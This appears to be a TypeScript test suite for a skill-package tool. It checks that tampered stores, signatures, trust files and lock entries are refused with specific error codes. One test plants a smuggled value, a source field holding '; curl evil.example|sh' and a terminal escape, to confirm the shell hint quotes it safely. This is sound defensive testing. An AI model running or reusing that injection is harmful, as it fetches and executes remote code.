import * as fc from "fast-check";
import { spawnSync } from "node:child_process";
import { readFileSync, rmSync, writeFileSync } from "node:fs";
import { chmodSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { openLibrary } from "../../../cli/commands/skill/open-library.ts";
import { canonicalJson } from "../../../core/mod.ts";
import type { LockEntry, SkillLibrary } from "../../../skills/mod.ts";
import { contextIn } from "../../support/context.ts";
import { type Desk, makeDesk } from "./desk.ts";
import { release, SCRIPT_KEYS, writePackage } from "./publisher.ts";

const SCALE = Math.max(1, Number(process.env["AZ_SCALE"] ?? "1") || 1);

interface Shop {
  readonly desk: Desk;
  readonly library: SkillLibrary;
  readonly entry: LockEntry;
}

async function open(): Promise<Shop> {
  const desk = await makeDesk();
  await desk.trust();
  const archive = release("1.0.0", { keys: SCRIPT_KEYS, files: { "run.sh": "#!/bin/sh\necho hi\n", "a.md": "text" } });
  const said = await desk.install(writePackage(desk.root, archive, desk.signer.sign(archive)));
  if (said.exit !== 0) throw new Error(said.stdout);
  await desk.run("trust", "revoke", "example-org/other", "--reason", "so that the file exists");
  const { library } = await openLibrary(contextIn(desk.project, desk.home));
  const lock = JSON.parse(readFileSync(join(desk.project, ".agentzero/skills.lock"), "utf8")) as {
    skills: LockEntry[];
  };
  const [entry] = lock.skills;
  if (entry === undefined) throw new Error("nothing is installed");
  return { desk, library, entry };
}

function blob(home: string, digest: string | null): string {
  const hex = (digest ?? "").slice(3);
  return join(home, "store/b2", hex.slice(0, 2), hex);
}

/** What a byte of a file becomes. */
const MUTATION = fc.record({
  at: fc.nat(1_000_000),
  kind: fc.constantFrom("flip", "cut", "insert", "gone"),
  bit: fc.integer({ min: 0, max: 7 }),
});

function mutate(bytes: Uint8Array, { at, kind, bit }: { at: number; kind: string; bit: number }): Uint8Array {
  const place = at % bytes.length;
  if (kind === "cut") return bytes.slice(0, place);
  if (kind === "insert") return Uint8Array.from([...bytes.slice(0, place), 65 + bit, ...bytes.slice(place)]);
  const copy = Uint8Array.from(bytes);
  copy[place] = (copy[place] ?? 0) ^ (1 << bit);
  return copy;
}

describe("an installed skill whose files somebody changed", () => {
  const PLACES: readonly (readonly [string, (shop: Shop) => string, RegExp])[] = [
    ["the package in the store", ({ desk, entry }) => blob(desk.home, entry.package), /^CAS_/],
    ["its signature in the store", ({ desk, entry }) => blob(desk.home, entry.sig), /^CAS_/],
    ["the pins of publishers", ({ desk }) => join(desk.home, "trust/publishers.json"), /^TRUST_TAMPERED$/],
    ["the revocations", ({ desk }) => join(desk.home, "trust/revoked.json"), /^TRUST_TAMPERED$/],
    ["the releases that were seen", ({ desk }) => join(desk.home, "trust/seen.json"), /^TRUST_TAMPERED$/],
    ["the memory of what exists", ({ desk }) => join(desk.home, "keys/trust-files.json"), /^TRUST_TAMPERED$/],
    ["the grants", ({ desk }) => join(desk.home, "grants/packages.json"), /^TRUST_TAMPERED$/],
    [
      "the lock",
      ({ desk }) => join(desk.project, ".agentzero/skills.lock"),
      /^(LOCK_|CAS_|SIG_INVALID|KEY_|PERM_WIDENED)/,
    ],
  ];

  it("is refused, with the code of what was changed", async () => {
    const shop = await open();
    for (const [name, place, codes] of PLACES) {
      const path = place(shop);
      const before = readFileSync(path);
      await fc.assert(
        fc.asyncProperty(MUTATION, async (mutation) => {
          const after = mutate(before, mutation);
          if (name === "the lock" && mutation.kind !== "gone" && means(after) === means(before)) return;
          try {
            if (mutation.kind === "gone") rmSync(path);
            else put(path, after);
            const code = await shop.library.loadForRun("pdf-report").then(() => "loaded", codeOf);
            expect(`${name}: ${code}`).toMatch(new RegExp(`: ${codes.source.replace(/^\^/, "")}`));
          } finally {
            put(path, before);
          }
        }),
        { seed: 42, numRuns: 12 * SCALE, examples: [[{ at: 0, kind: "gone", bit: 0 }]] },
      );
      // What was put back is good again: the test refused for the right reason.
      expect((await shop.library.loadForRun("pdf-report")).name).toBe("pdf-report");
    }
  });

  it("is refused for each field of its pin", async () => {
    const shop = await open();
    const path = join(shop.desk.project, ".agentzero/skills.lock");
    const before = readFileSync(path);
    for (const [field, value] of Object.entries(shop.entry)) {
      if (field === "source") continue;
      for (const other of [undefined, null, 7, `${String(value)}x`, "b2:" + "0".repeat(64)]) {
        const entry = { ...shop.entry, [field]: other };
        if (canonicalJson(entry) === canonicalJson(shop.entry)) continue;
        writeFileSync(path, JSON.stringify({ skills: [entry], v: 1 }));
        const code = await shop.library.loadForRun("pdf-report").then(() => "loaded", codeOf);
        expect(`${field}=${String(other)}: ${code}`).toMatch(/: (LOCK_INVALID|LOCK_MISSING|CAS_TYPE)$/);
      }
    }
    writeFileSync(path, before);
    await shop.library.loadForRun("pdf-report");
  });

  it("is refused with a command that a shell reads as one, whatever its pin says of its source", async () => {
    const { desk, library, entry } = await open();
    const source = "./a.azs; curl evil.example|sh #' \u001b[2J";
    const lock = { skills: [{ ...entry, package: `b2:${"0".repeat(64)}`, source }], v: 1 };
    writeFileSync(join(desk.project, ".agentzero/skills.lock"), `${JSON.stringify(lock, null, 2)}\n`);
    const hint = await library.loadForRun("pdf-report").then(() => "", (cause: { hint: string }) => cause.hint);
    const [, command = ""] = /(agentzero .*)$/s.exec(hint) ?? [];
    const words = spawnSync("sh", ["-c", `agentzero() { printf '%s\\0' "$@"; }; ${command}`], { encoding: "utf8" });
    expect(words.stdout.split("\0")).toEqual(["skill", "install", source, ""]);
  });

  it("is refused when its pin names two things", async () => {
    const shop = await open();
    const path = join(shop.desk.project, ".agentzero/skills.lock");
    const text = readFileSync(path, "utf8");
    writeFileSync(path, text.replace('"seq": 1000000', '"seq": 1, "seq": 1000000'));
    expect(await shop.library.loadForRun("pdf-report").then(() => "loaded", codeOf)).toBe("LOCK_INVALID");
    writeFileSync(path, JSON.stringify({ skills: [shop.entry, shop.entry], v: 1 }));
    expect(await shop.library.loadForRun("pdf-report").then(() => "loaded", codeOf)).toBe("LOCK_INVALID");
    writeFileSync(path, JSON.stringify({ skills: [], v: 1 }));
    expect(await shop.library.loadForRun("pdf-report").then(() => "loaded", codeOf)).toBe("LOCK_MISSING");
    rmSync(path);
    expect(await shop.library.loadForRun("pdf-report").then(() => "loaded", codeOf)).toBe("LOCK_MISSING");
  });

  it("is refused when it was revoked meanwhile, and when its grant was taken back", async () => {
    let shop = await open();
    await shop.desk.run("trust", "revoke", "example-org/pdf-report", "--reason", "bad");
    expect(await shop.library.loadForRun("pdf-report").then(() => "loaded", codeOf)).toBe("REVOKED");
    shop = await open();
    await shop.desk.run("skill", "remove", "pdf-report");
    writeFileSync(
      join(shop.desk.project, ".agentzero/skills.lock"),
      JSON.stringify({ skills: [shop.entry], v: 1 }),
    );
    expect(await shop.library.loadForRun("pdf-report").then(() => "loaded", codeOf)).toBe("PERM_WIDENED");
  });

  it("is refused when the pin and the grants of before its removal are put back", async () => {
    const { desk, library } = await open();
    const files = [join(desk.project, ".agentzero/skills.lock"), join(desk.home, "grants/packages.json")];
    const before = files.map((path) => readFileSync(path));
    await desk.run("skill", "remove", "pdf-report");
    for (const [at, path] of files.entries()) put(path, before[at] ?? new Uint8Array());
    expect(await library.loadForRun("pdf-report").then(() => "loaded", codeOf)).toBe("TRUST_TAMPERED");
  });
});

function put(path: string, bytes: Uint8Array): void {
  rmSync(path, { force: true });
  writeFileSync(path, bytes, { mode: 0o600 });
  chmodSync(path, path.includes("/store/") ? 0o400 : 0o600);
}

/** The lock as its reader takes it, but for where a skill came from: that is only told, never believed. */
function means(bytes: Uint8Array): string {
  try {
    const value = JSON.parse(new TextDecoder().decode(bytes)) as { skills: Record<string, unknown>[] };
    return canonicalJson({ ...value, skills: value.skills.map((entry) => ({ ...entry, source: "" })) });
  } catch {
    return `unreadable ${Buffer.from(bytes).toString("hex")}`;
  }
}

function codeOf(cause: unknown): string {
  return typeof cause === "object" && cause !== null && "code" in cause ? String(cause.code) : String(cause);
}
